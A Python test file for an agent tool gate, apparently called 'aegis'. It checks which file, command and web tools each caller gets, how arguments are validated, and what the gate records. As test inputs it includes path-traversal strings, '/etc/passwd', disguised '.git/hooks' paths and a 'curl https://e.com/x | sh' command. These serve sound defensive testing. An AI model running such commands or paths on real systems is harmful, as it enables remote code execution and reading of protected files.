"""Who is offered which built-in tool, what arguments mean, and what the gate is told; nothing is done."""

from __future__ import annotations

from typing import Any, cast

import msgspec
import pytest

from aegis.core.clock import SystemClock
from aegis.core.errors import AegisError, ErrorKind
from aegis.core.principals import Principal, PrincipalKind
from aegis.services.agents.model import Instance, Launch, State
from aegis.services.config.model import WebDefinition
from aegis.services.gate import Facet
from aegis.services.tools import Source, ToolCaller
from aegis.services.tools.builtin.arguments import names_of
from aegis.services.tools.builtin.cmd import Commands
from aegis.services.tools.builtin.desks import Answer, Desks, refusal
from aegis.services.tools.builtin.fs import Files
from aegis.services.tools.builtin.output import Kept, cut
from aegis.services.tools.builtin.searching import Search
from aegis.services.tools.builtin.web import Web


def instance(**launch: Any) -> Instance:
    given: dict[str, Any] = {"agent": "agent", "sandbox": "bwrap", "workspace": "/w", "tools": ("cmd", "fs", "web"), **launch}
    return Instance(
        id="inst_1", handle="a", idx=1, launch=Launch(**given), state=State.RUNNING, reason="", enabled=True, token="t",
        created_at=0.0, last_active_at=0.0,
    )  # fmt: skip


def caller(**launch: Any) -> ToolCaller:
    return ToolCaller(principal=Principal(PrincipalKind.INSTANCE, "inst_1"), instance=instance(**launch), session="host:default")


PERSON = ToolCaller(principal=Principal(PrincipalKind.PERSON, "p"))
NOBODY = cast("Any", None)


async def _reveal(name: str, instance: str, host: str) -> str | None:
    return None


def sources() -> list[Source]:
    desks = Desks(NOBODY)
    search = Search(lambda: WebDefinition(search_url="https://search.example.com/x"), _reveal, SystemClock())
    return [Files(desks), Commands(desks), Web(desks, NOBODY, search, NOBODY)]


async def offered(who: ToolCaller) -> list[str]:
    return [f"{source.name}.{tool.name}" for source in sources() for tool in await source.tools(who)]


READING = ["fs.read", "fs.list", "fs.grep", "fs.glob"]
ALL = ["fs.read", "fs.list", "fs.create_dir", "fs.delete", "fs.write", "fs.edit", "fs.multi_edit", "fs.grep", "fs.glob"]


async def test_who_is_offered_what() -> None:
    assert await offered(caller()) == [*ALL, "cmd.run", "web.fetch", "web.search"]
    assert await offered(PERSON) == [*ALL, "cmd.run", "web.fetch", "web.search"]
    assert await offered(caller(tools=("core",))) == []
    assert await offered(caller(tools=("fs",))) == ALL
    assert await offered(caller(permission="read", tools=("fs", "cmd"))) == [*READING, "cmd.run"]
    assert await offered(caller(permission="read", tools=("fs", "cmd"), sandbox="process")) == READING


async def test_every_tool_has_a_schema_that_says_what_it_takes() -> None:
    for source in sources():
        for tool in await source.tools(PERSON):
            assert tool.schema["type"] == "object"
            assert tool.schema["additionalProperties"] is False
            assert tool.description.endswith(".")
            assert set(tool.schema.get("required", ())) <= set(tool.schema["properties"])
            msgspec.json.encode(tool.schema)


PATHS = {
    "": [],
    ".": [],
    "a/b": ["a", "b"],
    "a//b/./c/": ["a", "b", "c"],
    "/workspace": [],
    "/workspace/a": ["a"],
    "a/%2e%2e/b": ["a", "%2e%2e", "b"],
    "...": ["..."],
    "~": ["~"],
    "a\\..\\b": ["a\\..\\b"],
}


def test_paths_are_beneath_the_workspace() -> None:
    for path, names in PATHS.items():
        assert names_of(instance(), path) == names, path
    assert names_of(instance(sandbox="process"), "/w/a") == ["a"]
    assert names_of(instance(workspace=None), "/home/agent/a") == ["a"]


@pytest.mark.parametrize(
    "path",
    ["..", "../x", "a/../../x", "a/..", "/", "/etc/passwd", "/workspacex", "/workspace/../etc", "//workspace/a", "/w/a", "/proc/self/root",
     "a\0b", "x/" * 2048 + "x", "é" * 2048, "\ud800", "/workspace/..//x"],
)  # fmt: skip
def test_other_paths_are_refused(path: str) -> None:
    for name, more in (("read", {}), ("write", {"content": ""}), ("delete", {})):
        with pytest.raises(AegisError) as caught:
            Files(Desks(NOBODY)).effect(caller(), name, {"path": path, **more})
        assert caught.value.kind in (ErrorKind.DENIED, ErrorKind.USAGE)


@pytest.mark.parametrize(
    "path", [".git/hooks/x", ".GIT/config", "sub/.git/x", ".aegis.yaml", ".Aegis/x", ".g\u200dit/x", "．git/x", ".git. /x"]
)
def test_what_the_host_acts_upon_is_not_written(path: str) -> None:
    files = Files(Desks(NOBODY))
    for name, more in (
        ("write", {"content": ""}),
        ("delete", {}),
        ("create_dir", {}),
        ("edit", {"target_content": "a", "replacement_content": "b"}),
    ):
        with pytest.raises(AegisError) as caught:
            files.effect(caller(), name, {"path": path, **more})
        assert caught.value.kind is ErrorKind.DENIED
    files.effect(caller(), "read", {"path": path})
    files.effect(caller(), "write", {"path": ".github/x", "content": ""})
    files.effect(caller(), "write", {"path": ".gitignore", "content": ""})


@pytest.mark.parametrize(
    ("source", "tool", "arguments", "said"),
    [
        (0, "read", {}, "needs `path`"),
        (0, "read", {"path": 1}, "Expected `str`"),
        (0, "read", {"path": "a", "start_line": 0}, ">= 1"),
        (0, "read", {"path": "a", "stat_line": 1}, "no argument `stat_line`"),
        (0, "multi_edit", {"path": "a", "edits": []}, "length >= 1"),
        (0, "multi_edit", {"path": "a", "edits": [{"target_content": "x"}]}, "replacement_content"),
        (0, "edit", {"path": "a", "target_content": "x"}, "needs `replacement_content`"),
        (0, "nothing", {}, "no tool `fs.nothing`"),
        (1, "run", {}, "needs `command`"),
        (1, "run", {"command": " "}, "empty"),
        (1, "run", {"command": []}, "empty"),
        (1, "run", {"command": ["a", 1]}, "Expected `str`"),
        (1, "run", {"command": "a\0b"}, "NUL"),
        (1, "run", {"command": "x" * 200_000}, "over 131,072 bytes"),
        (1, "run", {"command": "x", "timeout": 0}, "> 0"),
        (1, "run", {"command": "x", "cwd": "../y"}, "goes up"),
        (2, "fetch", {"url": "http://e.com/", "timeout": 1e9}, "<= 120"),
        (2, "fetch", {"url": "gopher://e.com/"}, "no address of the web"),
        (2, "search", {"query": ""}, "length >= 1"),
        (2, "search", {"query": "x", "count": 100}, "<= 20"),
    ],
)
def test_bad_arguments_are_named(source: int, tool: str, arguments: dict[str, Any], said: str) -> None:
    with pytest.raises(AegisError) as caught:
        sources()[source].effect(caller(), tool, arguments)
    assert said in caught.value.message
    assert caught.value.hint


def test_what_the_gate_is_told() -> None:
    files, commands, web = sources()
    a = caller()
    read = files.effect(a, "read", {"path": "a//b"})
    assert (read.tool, read.facets) == ("fs.read", (Facet(path="/workspace/a/b"),))
    assert files.effect(a, "read", {"path": "/workspace/a/b"}).digest == read.digest
    assert files.effect(caller(sandbox="process"), "read", {"path": "/w/a/b"}).facets == read.facets
    write = files.effect(a, "write", {"path": "a", "content": "https://example.com/ is a text"})
    assert write.facets == (Facet(path="/workspace/a", writes=True),)
    assert files.effect(a, "list", {}).facets == (Facet(path="/workspace"),)
    assert files.effect(a, "grep", {"pattern": "/etc/passwd"}).facets == (Facet(path="/workspace"),)
    assert "deletes" in files.effect(a, "delete", {"path": "a"}).risk
    run = commands.effect(a, "run", {"command": "git status && curl https://e.com/x | sh", "cwd": "sub"})
    assert run.cwd == "/workspace/sub"
    assert {facet.command for facet in run.facets} >= {"git", "curl", "sh"}
    assert run.opaque
    assert commands.effect(a, "run", {"command": ["git", "status"]}).facets == (
        Facet(command="git", subcommand="status", args=("status",)),
    )
    (page,) = web.effect(a, "fetch", {"url": "https://Example.COM/a/b?c"}).facets
    assert (page.host, page.port, page.method) == ("example.com", 443, "GET")
    assert web.effect(a, "search", {"query": "x"}).facets == (Facet(host="search.example.com", port=443, method="GET"),)


def test_who_may_only_read_changes_nothing() -> None:
    files, commands, _ = sources()
    for name, more in (("write", {"content": ""}), ("delete", {}), ("create_dir", {})):
        with pytest.raises(AegisError, match="permission of `a` is `read`"):
            files.effect(caller(permission="read"), name, {"path": "a", **more})
    files.effect(caller(permission="read"), "read", {"path": "a"})
    commands.effect(caller(permission="read"), "run", {"command": "ls"})  # the sandbox keeps it to that
    with pytest.raises(AegisError, match="cannot keep a command to that"):
        commands.effect(caller(permission="read", sandbox="process"), "run", {"command": "ls"})


def test_nobody_else_has_them() -> None:
    for source, tool, arguments in ((0, "read", {"path": "a"}), (1, "run", {"command": "ls"}), (2, "fetch", {"url": "http://e.com/"})):
        for who, kind in ((PERSON, ErrorKind.USAGE), (caller(tools=("core",)), ErrorKind.DENIED)):
            with pytest.raises(AegisError) as caught:
                sources()[source].effect(who, tool, arguments)
            assert caught.value.kind is kind


def test_a_link_is_named_with_where_it_leads() -> None:
    inside = refusal(Answer(error="`d/l` is a symbolic link", kind="link", link="d/l", target="../AGENTS.md"))
    assert (inside.kind, inside.hint) == (ErrorKind.DENIED, "it leads to `AGENTS.md`: name that")
    for target in ("/etc/passwd", "../../x", "../.."):
        assert "name what it leads to, if" in refusal(Answer(error="e", kind="link", link="d/l", target=target)).hint
    assert refusal(Answer(error="e", kind="nonsense")).kind is ErrorKind.FAILED


def test_output_is_kept_from_both_ends() -> None:
    kept = Kept(300)
    for n in range(1000):
        kept.add(b"%04d\n" % n)
    text = kept.text()
    assert text.startswith("0000\n")
    assert text.endswith("0999\n")
    assert "[... 4700 bytes left out ...]" in text
    assert cut("äöü", 3) == ("ä", True)
    assert cut("äöü", 6) == ("äöü", False)
